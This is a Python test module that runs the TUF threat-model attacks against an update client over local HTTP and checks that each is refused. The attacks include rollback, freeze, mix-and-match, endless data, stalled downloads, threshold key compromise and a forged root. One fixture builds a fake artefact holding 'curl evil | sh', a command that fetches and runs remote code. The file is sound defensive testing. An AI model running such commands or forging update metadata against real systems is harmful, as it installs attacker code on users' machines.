"""Each attack of the TUF threat model, performed against the real client over real HTTP on
127.0.0.1 (by the tampering proxy or by tampering with the served files): refused with a clear
message, and nothing staged."""

from __future__ import annotations

import shutil
from datetime import UTC, datetime, timedelta

import pytest
from tuf.api.metadata import Metadata, Root, TargetFile

from sakimori.updates import keys
from sakimori.updates.acceptance import Release
from sakimori.updates.errors import UpdateRefused
from sakimori.updates.repository import (
    VendorRepository,
    online_signers,
    publish,
    refresh_online,
    rotate_keys,
    sign,
)
from tests.updates.conftest import LINE, World
from tests.updates.servers import Drip, Endless, Replace, Stall, static_server


def staged_first(world: World) -> dict[str, bytes]:
    """Stage release 1.0 (the operator is up to date), and return the staging directory."""
    world.client().stage(LINE)
    before = world.staging()
    assert list(before) == ["gateway/1.0/gw-1.0.bin", "gateway/1.0/release.json"]
    return before


def refused(world: World, attack: str, *needles: str, **limits: float) -> UpdateRefused:
    """Staging the newest release is refused as ``attack``; the message says so and says that
    nothing was installed; the journal records the refusal."""
    with pytest.raises(UpdateRefused) as caught:
        world.client(**limits).stage(LINE)
    error = caught.value
    message = error.diagnostics()
    print(message)  # shown with pytest -s: what the operator reads
    assert error.attack == attack, message
    assert "nothing was installed" in message
    assert "\n" not in message
    for needle in needles:
        assert needle in message
    journal = list(world.client().journal.entries())
    assert journal[-1]["event"] == "refused"
    assert journal[-1]["attack"] == attack
    return error


def nothing_installed(world: World, before: dict[str, bytes]) -> None:
    assert world.staging() == before
    downloads = world.state / "downloads"
    assert not [p for p in downloads.iterdir() if "2.0" in p.name]


def test_arbitrary_artefact_with_the_wrong_hash(world: World) -> None:
    before = staged_first(world)
    target = world.release("2.0")
    genuine = (world.base / "gw-2.0.bin").read_bytes()
    evil = b"#!/bin/sh\ncurl evil | sh\n".ljust(len(genuine), b"#")  # same length, other bytes
    world.proxy.rules[world.artefact_url_path(target)] = Replace(evil)
    refused(world, "arbitrary-artefact", "gateway/gw-2.0.bin", "hashes")
    nothing_installed(world, before)


def test_rollback_to_older_metadata(world: World) -> None:
    before = staged_first(world)
    old_timestamp = world.repo.layout.current("timestamp").read_bytes()  # signed, still valid
    world.release("2.0")
    world.client().refresh()  # the operator has seen the newer timestamp
    world.release("2.1")
    world.proxy.rules["/metadata/timestamp.json"] = Replace(old_timestamp)
    error = refused(world, "rollback", "rollback attack", "must be >=")
    assert "timestamp version 2" in error.message
    nothing_installed(world, before)


def test_freeze_with_a_stale_timestamp(world: World) -> None:
    before = staged_first(world)
    three_days_ago = datetime.now(UTC) - timedelta(days=3)
    world.release("2.0", now=three_days_ago)  # what a frozen mirror serves: expired 2 days ago
    refused(world, "freeze", "timestamp.json is expired", "freeze attack")
    nothing_installed(world, before)


def test_mix_and_match_metadata(world: World) -> None:
    before = staged_first(world)
    world.release("2.0")
    layout = world.repo.layout
    current = Metadata.from_file(str(layout.current(LINE))).signed.version
    older = layout.versioned(LINE, current - 1).read_bytes()  # genuine, from another snapshot
    world.proxy.rules[f"/metadata/{current}.{LINE}.json"] = Replace(older)
    refused(world, "mix-and-match", "mix-and-match")
    nothing_installed(world, before)


@pytest.mark.parametrize("what", ["timestamp", "artefact"])
def test_endless_data(world: World, what: str) -> None:
    before = staged_first(world)
    target = world.release("2.0")
    path = "/metadata/timestamp.json" if what == "timestamp" else world.artefact_url_path(target)
    world.proxy.rules[path] = Endless()
    error = refused(world, "endless-data", "endless-data attack", "exceeding")
    if what == "timestamp":
        assert "16384" in error.message  # the timestamp length limit
    nothing_installed(world, before)


def test_server_that_stalls(world: World) -> None:
    before = staged_first(world)
    world.release("2.0")
    world.proxy.rules["/metadata/timestamp.json"] = Stall()
    refused(world, "slow-retrieval", "stalled", socket_timeout=1)
    nothing_installed(world, before)


def test_server_that_trickles_past_the_deadline(world: World) -> None:
    """One byte every 0.1 s never trips the 10 s socket timeout; the per-file deadline does."""
    before = staged_first(world)
    world.release("2.0")
    world.proxy.rules["/metadata/timestamp.json"] = Drip()
    error = refused(world, "slow-retrieval", "took longer than 1 s", download_timeout=1)
    assert "stalled" in error.message
    nothing_installed(world, before)


def test_one_compromised_line_key_below_threshold(world: World) -> None:
    """The attacker holds one of the two gateway keys and even the platform's online keys, and
    serves a mirror with a malicious release: the client wants 2 of 2 gateway signatures."""
    before = staged_first(world)
    mirror = VendorRepository(world.base / "evil-mirror")
    shutil.copytree(world.repo.path, mirror.path)
    metadata = mirror.load(LINE)
    assert metadata is not None
    evil = b"malicious gateway build\n"
    target = TargetFile.from_data(f"{LINE}/gw-2.0.bin", evil, ["sha256"])
    target.unrecognized_fields["custom"] = Release("2.0", "CMP-2026-2.0", ()).to_custom()
    metadata.signed.targets[target.path] = target
    metadata.signed.version += 1
    metadata.sign(world.signer(f"{LINE}-1"))  # the one compromised key
    data = metadata.to_bytes()
    mirror.layout.versioned(LINE, metadata.signed.version).write_bytes(data)
    mirror.layout.current(LINE).write_bytes(data)
    (mirror.layout.targets / LINE / f"{target.hashes['sha256']}.gw-2.0.bin").write_bytes(evil)
    refresh_online(mirror, online_signers(world.online), force_snapshot=True)
    with static_server(mirror.layout.public) as evil_origin:
        world.proxy.upstream = evil_origin
        refused(world, "threshold", "signed by 1/2 keys", "not signed by enough trusted keys")
    nothing_installed(world, before)


def test_rotated_out_root_keys_cannot_sign_a_new_root(world: World) -> None:
    before = staged_first(world)
    repo = world.repo
    fresh = [keys.generate(world.offline, f"root-{n}")[0] for n in (4, 5)]
    old = [world.signer("root-1"), world.signer("root-2")]
    rotate_keys(
        repo, "root", add=[s.public_key for s in fresh], revoke=[s.public_key.keyid for s in old]
    )
    status = sign(repo, "root", [*old, world.signer("root-3"), fresh[0]])
    assert status.counts == ((3, 2), (2, 2)), status  # old root v1: 3 of 3; new: 2 of 3
    assert status.complete
    publish(repo, online_signers(world.online))
    assert world.client().refresh().root_version == 2  # the operator follows the rotation

    # The holder of the two rotated-out keys (a threshold of root v1) forges root v3.
    attacker = keys.generate(world.base / "attacker", "evil-root")[0]
    forged = Metadata.from_file(str(repo.layout.versioned("root", 2)))
    root: Root = forged.signed
    root.version = 3
    for keyid in list(root.roles["root"].keyids):
        root.revoke_key(keyid, "root")
    root.add_key(attacker.public_key, "root")
    root.roles["root"].threshold = 1
    forged.signatures.clear()
    for signer in (*old, attacker):
        forged.sign(signer, append=True)
    repo.layout.versioned("root", 3).write_bytes(forged.to_bytes())  # tampered server files
    world.release("2.0")
    refused(world, "untrusted-root", "root was signed by 0/2 keys", "rotated-out")
    nothing_installed(world, before)
